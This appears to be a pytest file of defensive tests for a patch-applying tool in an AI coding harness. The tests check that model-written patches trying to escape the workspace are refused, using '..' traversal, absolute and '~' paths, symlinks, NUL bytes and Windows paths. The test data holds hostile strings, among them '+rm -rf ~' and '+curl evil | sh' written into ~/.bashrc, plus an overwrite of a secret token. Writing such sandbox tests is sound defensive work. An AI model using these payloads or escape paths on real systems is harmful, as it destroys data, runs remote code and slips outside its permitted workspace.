"""Model-written patches that try to reach outside the workspace: every one is refused and reported.

Each test builds a real workspace next to a real "outside" folder holding a
secret file, sends the attack through ApplyPatchTool.run as a model would, and
checks that the call failed with a clear message and that nothing outside (nor
inside) changed. Deleting or moving a symbolic link inside the workspace
succeeds, and touches the link only, never the file it leads to.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from mlx_harmony_tui.tools.apply_patch import ApplyPatchTool

pytestmark = pytest.mark.attack

SECRET = "token=do-not-touch\n"


def patch(*lines: str) -> str:
    return "\n".join(["*** Begin Patch", *lines, "*** End Patch", ""])


def tree(root: Path) -> dict[str, bytes | str]:
    """Every entry under ``root``: file bytes, where a link points, 'dir' or 'special'."""
    entries: dict[str, bytes | str] = {}
    for path in sorted(root.rglob("*")):
        key = path.relative_to(root).as_posix()
        if path.is_symlink():
            entries[key] = f"-> {os.readlink(path)}"
        elif path.is_dir():
            entries[key] = "dir"
        elif path.is_file():
            entries[key] = path.read_bytes()
        else:
            entries[key] = "special"  # a FIFO: reading it would block
    return entries


@pytest.fixture
def sandbox(tmp_path: Path):
    """(workspace, outside folder): the workspace has app.py, the outside folder secret.txt."""
    ws = tmp_path / "ws"
    outside = tmp_path / "outside"
    ws.mkdir()
    outside.mkdir()
    (ws / "app.py").write_text("print('hi')\n")
    (outside / "secret.txt").write_text(SECRET)
    return ws, outside


def attack(ws: Path, outside: Path, arguments: str, expected: str) -> None:
    """Run the attack and check it was refused with ``expected`` in the message, changing nothing."""
    before = tree(outside.parent)
    out = ApplyPatchTool(ws).run(arguments)
    assert not out.ok, out.text
    assert expected in out.text
    assert "No file was changed." in out.text
    assert tree(outside.parent) == before
    assert (outside / "secret.txt").read_text() == SECRET


def update_secret(path: str) -> str:
    return patch(f"*** Update File: {path}", "@@", "-token=do-not-touch", "+token=stolen")


def test_dotdot_update(sandbox):
    ws, outside = sandbox
    attack(ws, outside, update_secret("../outside/secret.txt"), "'..' is not allowed")


def test_dotdot_add(sandbox):
    ws, outside = sandbox
    attack(ws, outside, patch("*** Add File: ../outside/planted.sh", "+rm -rf ~"), "'..' is not allowed")


def test_dotdot_hidden_mid_path(sandbox):
    ws, outside = sandbox
    (ws / "src").mkdir()
    attack(ws, outside, update_secret("src/./../../outside/secret.txt"), "'..' is not allowed")


def test_absolute_update(sandbox):
    ws, outside = sandbox
    attack(ws, outside, update_secret(str(outside / "secret.txt")), "absolute paths are not allowed")


def test_absolute_add(sandbox):
    ws, outside = sandbox
    attack(ws, outside, patch(f"*** Add File: {outside / 'planted.txt'}", "+x"), "absolute paths are not allowed")


def test_absolute_path_inside_the_workspace_is_refused_too(sandbox):
    ws, outside = sandbox
    attack(ws, outside, patch(f"*** Delete File: {ws / 'app.py'}"), "absolute paths are not allowed")
    assert (ws / "app.py").exists()


def test_home_relative_path(sandbox):
    ws, outside = sandbox
    attack(ws, outside, patch("*** Add File: ~/.bashrc", "+curl evil | sh"), "'~' paths are not allowed")


def test_update_through_a_symlinked_file(sandbox):
    ws, outside = sandbox
    (ws / "config.txt").symlink_to(outside / "secret.txt")
    attack(ws, outside, update_secret("config.txt"), "leads outside the workspace through a symbolic link")


def test_add_through_a_symlinked_folder(sandbox):
    ws, outside = sandbox
    (ws / "vendor").symlink_to(outside, target_is_directory=True)
    attack(ws, outside, patch("*** Add File: vendor/planted.txt", "+x"), "through a symbolic link")
    assert not (outside / "planted.txt").exists()


def test_add_through_a_dangling_symlink(sandbox):
    ws, outside = sandbox
    (ws / "notes.txt").symlink_to(outside / "not-yet.txt")
    attack(ws, outside, patch("*** Add File: notes.txt", "+x"), "through a symbolic link")
    assert not (outside / "not-yet.txt").exists()


def test_update_through_a_symlink_deep_in_the_path(sandbox):
    ws, outside = sandbox
    (ws / "a" / "b").mkdir(parents=True)
    (ws / "a" / "b" / "up").symlink_to(ws.parent, target_is_directory=True)
    attack(ws, outside, update_secret("a/b/up/outside/secret.txt"), "through a symbolic link")


def test_move_outside_with_dotdot(sandbox):
    ws, outside = sandbox
    arguments = patch("*** Update File: app.py", "*** Move to: ../outside/app.py")
    attack(ws, outside, arguments, "'..' is not allowed")
    assert (ws / "app.py").read_text() == "print('hi')\n"


def test_move_outside_with_absolute_path(sandbox):
    ws, outside = sandbox
    arguments = patch("*** Update File: app.py", f"*** Move to: {outside / 'secret.txt'}", "@@", "-print('hi')", "+x")
    attack(ws, outside, arguments, "absolute paths are not allowed")
    assert (ws / "app.py").read_text() == "print('hi')\n"


def test_move_into_a_symlinked_folder(sandbox):
    ws, outside = sandbox
    (ws / "out").symlink_to(outside, target_is_directory=True)
    attack(ws, outside, patch("*** Update File: app.py", "*** Move to: out/app.py"), "through a symbolic link")
    assert (ws / "app.py").exists()


def test_delete_outside_with_dotdot(sandbox):
    ws, outside = sandbox
    attack(ws, outside, patch("*** Delete File: ../outside/secret.txt"), "'..' is not allowed")


def test_delete_through_a_symlink(sandbox):
    ws, outside = sandbox
    (ws / "secret-link").symlink_to(outside / "secret.txt")
    attack(ws, outside, patch("*** Delete File: secret-link"), "through a symbolic link")
    assert (ws / "secret-link").is_symlink()


def test_delete_the_workspace_itself(sandbox):
    ws, outside = sandbox
    attack(ws, outside, patch("*** Delete File: ."), "names the workspace itself")
    assert (ws / "app.py").exists()


def test_nul_byte_in_path(sandbox):
    ws, outside = sandbox
    attack(ws, outside, patch("*** Add File: safe.txt\x00/../../outside/secret.txt", "+x"), "contains a NUL byte")
    assert not (ws / "safe.txt").exists()


def test_nul_byte_in_path_through_json(sandbox):
    ws, outside = sandbox
    arguments = json.dumps({"input": patch("*** Delete File: app.py\x00../outside/secret.txt")})
    attack(ws, outside, arguments, "contains a NUL byte")
    assert (ws / "app.py").exists()


def test_windows_dotdot(sandbox):
    ws, outside = sandbox
    attack(ws, outside, update_secret("..\\outside\\secret.txt"), "'..' is not allowed")


def test_windows_dotdot_add(sandbox):
    ws, outside = sandbox
    attack(ws, outside, patch("*** Add File: src\\..\\..\\outside\\planted.txt", "+x"), "'..' is not allowed")
    assert sorted(p.name for p in ws.iterdir()) == ["app.py"]


def test_windows_drive_path(sandbox):
    ws, outside = sandbox
    attack(ws, outside, patch("*** Add File: C:\\Windows\\evil.txt", "+x"), "absolute paths are not allowed")


def test_a_legitimate_edit_does_not_carry_an_attack_through(sandbox):
    ws, outside = sandbox
    arguments = patch(
        "*** Update File: app.py",
        "@@",
        "-print('hi')",
        "+print('changed')",
        "*** Add File: ../outside/planted.txt",
        "+x",
    )
    attack(ws, outside, arguments, "'..' is not allowed")
    assert (ws / "app.py").read_text() == "print('hi')\n"


def test_fifo_inside_the_workspace_does_not_hang_the_tool(sandbox):
    ws, outside = sandbox
    os.mkfifo(ws / "pipe")
    attack(ws, outside, patch("*** Update File: pipe", "@@", "-a", "+b"), "pipe is not a regular file")


@pytest.fixture
def linked(sandbox):
    """The workspace with ok.txt, a link to it (inner_link) and a link to a folder (docs_link -> docs)."""
    ws, outside = sandbox
    (ws / "ok.txt").write_text("keep me\n")
    (ws / "docs").mkdir()
    (ws / "docs" / "guide.md").write_text("# Guide\n")
    (ws / "inner_link").symlink_to("ok.txt")
    (ws / "docs_link").symlink_to("docs", target_is_directory=True)
    return ws, outside


def applied(ws: Path, outside: Path, arguments: str) -> str:
    """Apply a patch that must succeed; nothing outside the workspace may change."""
    before = tree(outside)
    out = ApplyPatchTool(ws).run(arguments)
    assert out.ok, out.text
    assert tree(outside) == before and (outside / "secret.txt").read_text() == SECRET
    return out.text


def test_deleting_a_link_deletes_the_link_not_its_target(linked):
    ws, outside = linked
    assert applied(ws, outside, patch("*** Delete File: inner_link")) == "Done. Deleted inner_link"
    assert not os.path.lexists(ws / "inner_link")
    assert (ws / "ok.txt").read_text() == "keep me\n"


def test_deleting_a_link_to_a_folder_keeps_the_folder(linked):
    ws, outside = linked
    applied(ws, outside, patch("*** Delete File: docs_link"))
    assert not os.path.lexists(ws / "docs_link") and (ws / "docs" / "guide.md").read_text() == "# Guide\n"


def test_moving_a_link_moves_the_link_and_it_still_leads_to_its_file(linked):
    ws, outside = linked
    said = applied(ws, outside, patch("*** Update File: inner_link", "*** Move to: deeper/still/moved_link"))
    assert said == "Done. Moved inner_link to deeper/still/moved_link"
    moved = ws / "deeper" / "still" / "moved_link"
    assert not os.path.lexists(ws / "inner_link") and moved.is_symlink()
    assert os.readlink(moved) == "../../ok.txt" and moved.read_text() == "keep me\n"
    assert (ws / "ok.txt").read_text() == "keep me\n" and not (ws / "ok.txt").is_symlink()


def test_moving_a_link_with_hunks_edits_its_file_in_place(linked):
    ws, outside = linked
    applied(ws, outside, patch("*** Update File: inner_link", "*** Move to: renamed_link", "@@", "-keep me", "+kept"))
    assert (ws / "renamed_link").is_symlink() and os.readlink(ws / "renamed_link") == "ok.txt"
    assert (ws / "ok.txt").read_text() == "kept\n" and not os.path.lexists(ws / "inner_link")


def test_a_path_used_again_after_its_link_went_is_refused(linked):
    ws, _ = linked
    before = tree(ws)
    out = ApplyPatchTool(ws).run(patch("*** Delete File: inner_link", "*** Add File: inner_link", "+new"))
    assert not out.ok and "already deletes or moves the symbolic link there" in out.text
    assert tree(ws) == before
